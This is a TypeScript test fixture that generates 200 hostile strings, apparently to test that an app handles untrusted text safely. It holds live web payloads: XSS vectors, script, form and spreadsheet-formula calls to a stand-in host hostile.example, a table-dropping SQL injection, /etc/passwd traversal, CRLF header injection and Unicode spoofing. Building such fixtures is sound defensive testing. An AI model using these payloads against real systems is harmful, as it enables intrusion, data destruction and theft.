/** Texts of people and programs that would like to be more than text: markup, scripts, addresses, controls, sheer size. */
const FORMS: readonly ((mark: string) => string)[] = [
  (mark) => `<script>globalThis.harmed=${mark}</script>`,
  (mark) => `<img src=x onerror="globalThis.harmed=${mark}">`,
  (mark) => `<svg onload=globalThis.harmed=${mark}>`,
  (mark) => `"><script src="https://hostile.example/${mark}.js"></script>`,
  (mark) => `'"><iframe srcdoc="<script>parent.harmed=${mark}</script>">`,
  (mark) => `<a href="javascript:globalThis.harmed=${mark}">${mark}</a>`,
  (mark) => `javascript:globalThis.harmed=${mark}`,
  (mark) => `<style>*{display:none}</style>${mark}`,
  (mark) => `<link rel=stylesheet href=https://hostile.example/${mark}.css>`,
  (mark) => `<meta http-equiv=refresh content="0;url=https://hostile.example/${mark}">`,
  (mark) => `<base href="https://hostile.example/${mark}/">`,
  (mark) =>
    `<form action=https://hostile.example/${mark}><input name=q autofocus onfocus=globalThis.harmed=${mark}>`,
  (mark) => `<details open ontoggle=globalThis.harmed=${mark}>`,
  (mark) => `</textarea></title></style><script>globalThis.harmed=${mark}</script>`,
  (mark) => `<!--<img src="--><img src=x onerror=globalThis.harmed=${mark}//">`,
  (mark) => `<math><mtext><table><mglyph><style><img src=x onerror=globalThis.harmed=${mark}>`,
  (mark) => `{{constructor.constructor('globalThis.harmed=${mark}')()}}`,
  (mark) => '${globalThis.harmed=' + mark + '}',
  (mark) => `__proto__ ${mark}`,
  (mark) => `constructor.${mark}`,
  (mark) => `../../../../etc/passwd?${mark}`,
  (mark) => `//hostile.example/${mark}`,
  (mark) => `https://hostile.example/${mark}`,
  (mark) => `data:text/html,<script>opener.harmed=${mark}</script>`,
  (mark) => `\u202E${mark} gnp.exe\u202C`,
  (mark) => `\u2066${mark}\u2069\u200B\u200D\uFEFF`,
  (mark) => `\u2028${mark}\u2029`,
  (mark) => `\u001B[31m${mark}\u001B[0m\u0007`,
  (mark) => `${mark}\r\nSet-Cookie: harmed=1`,
  (mark) => `Z${'\u0335\u0337\u0338\u0321'.repeat(60)}${mark}`,
  (mark) => `${mark} ${'W'.repeat(2000)}`,
  (mark) => `${mark} ${'long words '.repeat(200)}`,
  (mark) => `👩‍👩‍👧‍👦 ${mark} ${'🏴󠁧󠁢󠁥󠁮󠁧󠁿'.repeat(20)}`,
  (mark) => `%3Cscript%3Eharmed=${mark}%3C/script%3E`,
  (mark) => `&lt;script&gt;harmed=${mark}&lt;/script&gt;`,
  (mark) => `=HYPERLINK("https://hostile.example/${mark}","x")`,
  (mark) => `'; drop table canvas_sync_metrics; -- ${mark}`,
  (mark) => `?status=failed&user_id=${mark}#hash`,
  (mark) => `<button popovertarget=x autofocus onfocus=globalThis.harmed=${mark}>`,
  (mark) =>
    `<object data=https://hostile.example/${mark}></object><embed src=https://hostile.example/${mark}>`,
]

/** Two hundred of them, no two alike; each holds its own number. */
export const HOSTILE_TEXTS: readonly string[] = Array.from({ length: 200 }, (_, index) => {
  const form = FORMS[index % FORMS.length]
  return form?.(String(9000 + index)) ?? ''
})
